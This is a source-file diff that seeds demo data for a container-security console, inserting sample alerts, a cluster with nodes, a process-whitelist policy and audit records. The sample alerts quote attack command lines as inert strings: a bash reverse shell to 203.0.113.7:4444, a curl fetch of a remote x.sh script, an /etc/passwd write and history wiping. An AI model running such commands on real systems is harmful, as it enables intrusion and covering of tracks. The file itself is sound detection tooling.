@@ -1,0 +1,82 @@
+// Demo data for `vigil server --demo` (the README's `npm run demo`), so that
+// every page of the console has something real to show: alert groups of
+// several types (runtime, container, cluster), a process-whitelist policy
+// applied to the demo image, a protected cluster with agent nodes, and the
+// audit records of all of it. Written through the same store functions as
+// the API (alert grouping, audit chain); run once per data directory.
+import type { ServerContext } from './context.js';
+import type { Alert } from '../../core/alerts/types.js';
+import { ingestAlerts } from '../store/alert-groups.js';
+import { appendAudit, SYSTEM_ACTOR } from '../store/audit-log.js';
+import { newId } from '../store/ids.js';
+
+const CONTAINER = 'c0ffee'.repeat(10) + 'c0ff';
+
+export function demoAlerts(now: Date, image: string): Alert[] {
+  const at = (minutesAgo: number) => new Date(now.getTime() - minutesAgo * 60_000).toISOString();
+  const ctr = { id: CONTAINER, name: 'shop-web', image, pod: 'shop-web-7d9f', namespace: 'shop' };
+  const out: Alert[] = [];
+  // Spread over the last days so the overview's chart has a shape.
+  for (let i = 0; i < 6; i++) {
+    out.push({
+      id: `demo-rs-${i}`, type: 'system/reverse-shell', severity: 'critical', time: at(30 + i * 600), host: 'node-a',
+      message: 'Reverse shell: bash with stdin/stdout on a TCP socket to 203.0.113.7:4444', rule: 'Reverse shell',
+      process: { pid: 4242 + i, ppid: 4200, name: 'bash', exepath: '/bin/bash', cmdline: 'bash -i', uid: 33, user: 'www-data', parents: [{ pid: 4200, name: 'php-fpm', exepath: '/usr/sbin/php-fpm' }, { pid: 1, name: 'tini' }] },
+      container: ctr, action: { kind: 'alert' }, tags: ['mitre_execution', 'T1059'],
+    });
+  }
+  for (let i = 0; i < 4; i++) {
+    out.push({
+      id: `demo-ap-${i}`, type: 'container/abnormal-process', severity: 'medium', time: at(90 + i * 1500), host: 'node-b',
+      message: 'Process /usr/bin/curl is not in the process whitelist of the image', rule: 'Process whitelist',
+      process: { pid: 5100 + i, name: 'curl', exepath: '/usr/bin/curl', cmdline: 'curl -s http://198.51.100.9/x.sh' }, container: { ...ctr, id: 'b'.repeat(64), name: 'shop-api' },
+    });
+  }
+  out.push({
+    id: 'demo-sf-1', type: 'container/sensitive-file-access', severity: 'high', time: at(240), host: 'node-a',
+    message: 'Write to protected path /etc/passwd', rule: 'File protection', process: { pid: 6001, name: 'sh', cmdline: 'sh -c echo x >> /etc/passwd' }, container: ctr,
+  });
+  out.push({
+    id: 'demo-hc-1', type: 'system/high-risk-command', severity: 'high', time: at(60 * 26), host: 'node-b',
+    message: 'History wiping: history -c', rule: 'High-risk command', process: { pid: 7001, name: 'bash', cmdline: 'bash -c history -c' },
+  });
+  out.push({
+    id: 'demo-rb-1', type: 'cluster/role-binding', severity: 'high', time: at(60 * 50), host: 'apiserver',
+    message: 'ClusterRoleBinding to cluster-admin created for system:serviceaccount:shop:default', rule: 'Cluster-admin binding',
+    k8s: { auditID: '6f1c1b1e-0000-4000-8000-000000000001', user: 'dev@example.com', verb: 'create', resource: 'clusterrolebindings', name: 'shop-admin', sourceIPs: ['10.0.0.12'], userAgent: 'kubectl/v1.30.0' },
+  });
+  out.push({
+    id: 'demo-bf-1', type: 'user/brute-force', severity: 'medium', time: at(60 * 75), host: 'node-c',
+    message: '25 failed SSH logins for root from 192.0.2.50 within 60 s', rule: 'SSH brute force',
+  });
+  return out;
+}
+
+/** Seeds the demo project once (no-op when its demo cluster exists). */
+export async function seedDemoData(ctx: ServerContext, projectId: string, imageId: string, imageRef: string): Promise<boolean> {
+  const db = ctx.store.db;
+  if (await db.selectFrom('clusters').select('id').where('project_id', '=', projectId).where('name', '=', 'demo-cluster').executeTakeFirst()) return false;
+  const now = ctx.clock();
+  const iso = now.toISOString();
+  const alerts = demoAlerts(now, imageRef);
+  await ingestAlerts(ctx.store, projectId, alerts, async (trx) => {
+    await appendAudit(trx, ctx.store.dialect, SYSTEM_ACTOR, { event: 'ingestAlerts', projectId, resourceType: 'alerts', resourceId: '', summary: { count: alerts.length, demo: true } }, now);
+  });
+  await db.transaction().execute(async (trx) => {
+    const clusterId = newId();
+    await trx.insertInto('clusters').values({ id: clusterId, project_id: projectId, name: 'demo-cluster', protected: 0, created_at: iso }).execute();
+    await appendAudit(trx, ctx.store.dialect, SYSTEM_ACTOR, { event: 'addCluster', projectId, resourceType: 'cluster', resourceId: clusterId, summary: { name: 'demo-cluster', demo: true } }, now);
+    await trx.updateTable('clusters').set({ protected: 1 }).where('id', '=', clusterId).execute();
+    await appendAudit(trx, ctx.store.dialect, SYSTEM_ACTOR, { event: 'openClusterProtect', projectId, resourceType: 'cluster', resourceId: clusterId }, now);
+    for (const [hostname, status] of [['node-a', 'online'], ['node-b', 'online'], ['node-c', 'offline']] as const) {
+      await trx.insertInto('nodes').values({ id: newId(), project_id: projectId, cluster_id: clusterId, hostname, status, version: '0.1.0', last_seen: new Date(now.getTime() - (status === 'online' ? 20_000 : 3 * 3600_000)).toISOString(), created_at: iso }).execute();
+    }
+    const policyId = newId();
+    const document = { processWhitelist: { executables: ['/usr/local/bin/node', '/bin/sh'], learn: '10m' } };
+    await trx.insertInto('policies').values({ id: policyId, project_id: projectId, name: 'demo-app-processes', kind: 'process-whitelist', mode: 'alert', document: JSON.stringify(document), created_at: iso, updated_at: iso }).execute();
+    await appendAudit(trx, ctx.store.dialect, SYSTEM_ACTOR, { event: 'addPolicy', projectId, resourceType: 'policy', resourceId: policyId, summary: { name: 'demo-app-processes', kind: 'process-whitelist', demo: true } }, now);
+    await trx.insertInto('policy_images').values({ policy_id: policyId, image_id: imageId, created_at: iso }).execute();
+    await appendAudit(trx, ctx.store.dialect, SYSTEM_ACTOR, { event: 'imageApplyPolicy', projectId, resourceType: 'policy', resourceId: policyId, summary: { imageIds: [imageId] } }, now);
+  });
+  return true;
+}
